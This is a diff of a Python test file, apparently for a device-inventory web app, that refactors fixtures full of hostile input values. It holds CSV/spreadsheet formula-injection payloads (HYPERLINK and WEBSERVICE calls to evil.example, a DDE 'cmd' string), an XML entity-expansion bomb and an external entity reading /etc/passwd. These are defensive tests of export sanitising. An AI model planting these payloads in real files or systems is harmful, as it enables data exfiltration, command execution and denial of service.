@@ -26,7 +26,8 @@ from tests.web.conftest import Clock, Login
 from tests.web.fleet import CLERK, fill, make
 
 STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
-FORMULAS = {
+FORMULAS: dict[str, Any] = {
+    "purchased": "2020-01-01",
     "model": '=HYPERLINK("http://evil.example/"&A1,"klicka")',
     "manufacturer": "+cmd|' /C calc'!A0",
     "note": '@SUM(1+1)*WEBSERVICE("http://evil.example")',
@@ -66,8 +67,8 @@ def baited(web_database: Database) -> int:
         holder = places.owner(session, "1860")
         told = PersonInput('=HYPERLINK("http://evil.example")', "=1@evil.example", "9137")
         person = persons.add(session, holder.id, told).id
-        (device,) = make(session, "1860", 1, stage="deployed", purchased="2020-01-01", user="9137", **FORMULAS)
-        (ended,) = make(session, "1860", 1, purchased="2020-01-01", **FORMULAS)
+        (device,) = make(session, "1860", 1, **FORMULAS, stage="deployed", user="9137")
+        (ended,) = make(session, "1860", 1, **FORMULAS)
         devices.edit(session, device, device_input({"note": "=5+5"}, reason="=6+6"), actor=CLERK)
         stated = {"outcome": OutcomeType.EXTERNAL_REUSE.value, "date": "2026-03-04", "erasure_certificate": "=1+1"}
         stated |= {"partner": "=2+2", "report": "@SUM(1)", "decision": "+3+3", "receiver": "-4+4"}
@@ -143,8 +144,10 @@ def test_name_of_a_file_is_a_name_and_no_path_or_header(login: Login) -> None:
         assert "<script>" not in client.get(address).get_data(as_text=True)
 
 
-ENTITIES = "<!DOCTYPE x [" + '<!ENTITY a "aaaaaaaaaa">' + "".join(
-    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12)
+ENTITIES = (
+    "<!DOCTYPE x ["
+    + '<!ENTITY a "aaaaaaaaaa">'
+    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
 )
 OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">'
 CELL = '<row r="1"><c r="A1" t="inlineStr"><is><t>&%s;</t></is></c></row>'
